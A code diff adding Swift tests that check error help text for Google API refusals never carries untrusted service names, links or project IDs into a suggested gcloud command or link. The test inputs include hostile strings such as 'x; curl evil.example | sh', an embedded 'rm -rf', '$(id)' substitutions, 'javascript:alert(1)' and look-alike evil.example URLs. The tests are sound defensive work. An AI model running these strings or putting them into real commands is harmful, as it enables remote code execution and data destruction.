@@ -290,4 +290,123 @@ private let cases: [Case] = [
                 == "HTTP 302: a redirect to https://x.example/?access_token=…, which is not followed"
         )
     }
+
+    private static let pages =
+        "https://console.developers.google.com/apis/api/x/overview?project=p-1"
+
+    /// The help for a refusal with these metadata and this link.
+    private func help(
+        _ reason: String,
+        _ metadata: [String: String],
+        link: String = pages,
+        status: Int = 403
+    ) -> String? {
+        let members = metadata.map { JSONMember(name: $0.key, value: .string($0.value)) }
+        let body: JSONValue = [
+            "error": [
+                "code": .number(String(status)), "message": "no",
+                "details": [
+                    [
+                        "@type": "type.googleapis.com/google.rpc.ErrorInfo",
+                        "reason": .string(reason), "metadata": .object(JSONObject(members)),
+                    ],
+                    [
+                        "@type": "type.googleapis.com/google.rpc.Help",
+                        "links": [["url": .string(link)]],
+                    ],
+                ],
+            ]
+        ]
+        let response = HTTPResponse(status: status, body: Array(body.text.utf8))
+        return CallError(response, to: getRequest).help
+    }
+
+    @Test(
+        arguments: [
+            "x; curl evil.example | sh", "$(id).googleapis.com", "--impersonate.googleapis.com",
+            "-a.googleapis.com", "a.googleapis.com.evil.example", "evil.example", "googleapis.com",
+            "a b.googleapis.com", "a..googleapis.com", "a.googleapis.com\nrm -rf", "`id`", "",
+        ]
+    )
+    func `a service that is no host of Google's gets into no command`(service: String) {
+        let help = help("SERVICE_DISABLED", ["service": service, "consumer": "projects/p-1"])
+        #expect(help == "enable the service in the project; it takes some minutes to act")
+    }
+
+    @Test(
+        arguments: [
+            "http://console.cloud.google.com/x", "https://evil.example/x", "javascript:alert(1)",
+            "https://console.cloud.google.com.evil.example/",
+            "https://console.cloud.google.com@evil.example/",
+            "https://sites.google.com/view/x", "https://storage.googleapis.com/b/x.html",
+            "https://console.cloud.google.com/`id`", "https://console.cloud.google.com/x y",
+            "https://console.cloud.google.com/x;id", "https://console.cloud.google.com:1/",
+            "https://", "",
+        ]
+    )
+    func `a link that is no page of Google's is left out`(link: String) {
+        let disabled = help(
+            "SERVICE_DISABLED",
+            ["activationUrl": link, "consumer": "projects/p-1"]
+        )
+        #expect(
+            disabled == "run gcloud services enable aiplatform.googleapis.com --project p-1; "
+                + "it takes some minutes to act"
+        )
+        #expect(
+            help("RATE_LIMIT_EXCEEDED", [:], link: link, status: 429)
+                == "wait a minute and run it again, with fewer calls at a time"
+        )
+    }
+
+    @Test(
+        arguments: [
+            "projects/x;id", "projects/-x", "projects/$HOME", "projects/a b", "folders/7",
+            "projects/", "x", "projects/\u{202E}x",
+        ]
+    )
+    func `a project that is none gets into no command`(consumer: String) {
+        #expect(
+            help("SERVICE_DISABLED", ["consumer": consumer])
+                == "run gcloud services enable aiplatform.googleapis.com; it takes some minutes to act"
+        )
+        #expect(
+            help("CONSUMER_INVALID", ["consumer": consumer])?.hasPrefix("the project does not")
+                == true
+        )
+    }
+
+    @Test(arguments: ["projects/1234567890", "projects/example.com:p-1", "projects/p-1"])
+    func `a project may be a number or belong to a domain`(consumer: String) {
+        let name = consumer.dropFirst("projects/".count)
+        #expect(
+            help("SERVICE_DISABLED", ["consumer": consumer, "activationUrl": Self.pages])
+                == "run gcloud services enable aiplatform.googleapis.com --project \(name), "
+                + "or visit \(Self.pages); it takes some minutes to act"
+        )
+    }
+
+    @Test(arguments: ["aiplatform.x; id", "$(id)", "a b", ""])
+    func `a permission or resource that is none is left out`(text: String) {
+        #expect(
+            help("IAM_PERMISSION_DENIED", ["permission": text, "resource": "projects/\(text)"])
+                .map {
+                    $0.hasPrefix("you need the permission") && (text.isEmpty || !$0.contains(text))
+                }
+                == true
+        )
+    }
+
+    @Test(
+        arguments: [
+            (#"{"message":"Endpoint request timed out"}"#, "Endpoint request timed out"),
+            (#"{"detail":"Not here"}"#, "Not here"), (#"{"fault":{"message":"m"}}"#, "m"),
+            (#"{"errors":[{"message":"m"}]}"#, "m"), (#"[{"title":"t"}]"#, "t"),
+            (#"{"error":"boom"}"#, "boom"),
+        ] as [(String, String)]
+    )
+    func `the sentence of a gateway is the explanation`(body: String, sentence: String) {
+        let error = CallError(HTTPResponse(status: 418, body: Array(body.utf8)), to: getRequest)
+        #expect(error.message == "HTTP 418: \(sentence)")
+    }
 }
